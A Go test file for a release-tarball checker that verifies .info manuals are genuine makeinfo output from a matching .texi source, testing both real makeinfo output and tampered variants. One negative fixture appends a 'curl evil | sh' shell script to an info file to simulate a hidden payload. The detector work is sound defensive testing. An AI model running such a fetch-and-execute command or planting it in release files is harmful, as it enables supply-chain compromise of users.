package releasefmt

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const demoTexi = `\input texinfo
@setfilename demo.info
@settitle Demo Manual

@node Top
@top Demo

This is the demo manual.

@menu
* First::   The first chapter.
* Second::  The second chapter.
@end menu

@node First
@chapter First
Some text.

@node Second
@chapter Second
More text.
@bye
`

// makeinfoOutputs runs makeinfo on a small manual, whole and split into
// parts, and returns the tarball files doc/demo.info, doc/demo.info-N.
func makeinfoOutputs(t *testing.T) (whole []byte, split map[string][]byte) {
	t.Helper()
	requireTool(t, "makeinfo")
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"demo.texi": demoTexi})
	run(t, dir, nil, "makeinfo", "-o", "demo.info", "demo.texi")
	run(t, dir, nil, "makeinfo", "--split-size=100", "-o", "split/demo.info", "demo.texi")
	whole, err := os.ReadFile(filepath.Join(dir, "demo.info"))
	if err != nil {
		t.Fatal(err)
	}
	split = map[string][]byte{}
	parts, _ := filepath.Glob(filepath.Join(dir, "split", "demo.info*"))
	for _, p := range parts {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		split["doc/"+filepath.Base(p)] = b
	}
	if len(split) < 2 {
		t.Fatalf("makeinfo --split-size wrote %d files, want a split manual", len(split))
	}
	return whole, split
}

func TestMakeinfoManuals(t *testing.T) {
	whole, split := makeinfoOutputs(t)
	tarFiles := copyMap(split)
	tarFiles["other/demo.info"] = whole
	// makeinfo brackets index entries with NUL BS, as in GnuPG's manuals.
	tarFiles["idx/demo.info"] = []byte(strings.Replace(string(whole), "Some text.", "Some text.\n\x00\x08[index\x00\x08]\n* Menu:\n\n* key:                                   First.                (line 6)", 1))
	withSource := map[string][]byte{"doc/demo.texi": []byte(demoTexi)}
	in := makeInput(withSource, tarFiles, "", "", "1.0")
	r := Explain(in)
	if len(r.Findings) != 0 {
		t.Fatalf("findings: %+v", r.Findings)
	}
	for _, f := range in.TarFiles {
		e, ok := explained(r, f.Path)
		if !ok || e.Severity != SevLow || e.Origin.Kind != KindMakeinfo || e.Origin.Source != "doc/demo.texi" {
			t.Errorf("%s: %+v %v, want low makeinfo from doc/demo.texi", f.Path, e, ok)
		}
	}
	r = Explain(makeInput(nil, tarFiles, "", "", "1.0"))
	if e, ok := explained(r, "other/demo.info"); !ok || e.Severity != SevMedium {
		t.Errorf("without the .texi in the tag: %+v %v, want medium", e, ok)
	}
}

func TestMakeinfoNegatives(t *testing.T) {
	whole, _ := makeinfoOutputs(t)
	cases := map[string][]byte{
		"not makeinfo output":       []byte("\x7fELF\x02\x01\x01\x00binary payload\x1f\x8b"),
		"data after the tag table":  append(append([]byte{}, whole...), []byte("\x1f\n#!/bin/sh\ncurl evil | sh\n")...),
		"foreign segment":           []byte(strings.Replace(string(whole), "\x1f\nFile: demo.info,  Node: First", "\x1f\nPAYLOAD: demo.info,  Node: First", 1)),
		"NUL outside markers":       []byte(strings.Replace(string(whole), "Some text.", "Some\x00text.", 1)),
		"header names another file": []byte(strings.Replace(string(whole), "This is demo.info,", "This is evil.info,", 1)),
	}
	for name, b := range cases {
		t.Run(name, func(t *testing.T) {
			r := Explain(makeInput(map[string][]byte{"demo.texi": []byte(demoTexi)}, map[string][]byte{"demo.info": b}, "", "", "1.0"))
			if !hasFinding(r, RuleInfoNotMakeinfo, "demo.info", SevHigh) {
				t.Fatalf("no high %s: %+v", RuleInfoNotMakeinfo, r.Findings)
			}
			if _, ok := explained(r, "demo.info"); ok {
				t.Fatal("explained")
			}
		})
	}
}

// makeinfo 6.x wraps a long header line before the source name
// (findutils-4.9.0's doc/find-maint.info).
func TestParseInfoWrappedHeader(t *testing.T) {
	b := "This is find-maint.info, produced by makeinfo version 6.7 from\nfind-maint.texi.\n\n" +
		"\x1f\nFile: find-maint.info,  Node: Top,  Up: (dir)\n\nText.\n"
	m, err := ParseInfo([]byte(b))
	if err != nil || m.Source != "find-maint.texi" || m.Version != "6.7" {
		t.Fatalf("ParseInfo = %+v, %v; want source find-maint.texi, version 6.7", m, err)
	}
}
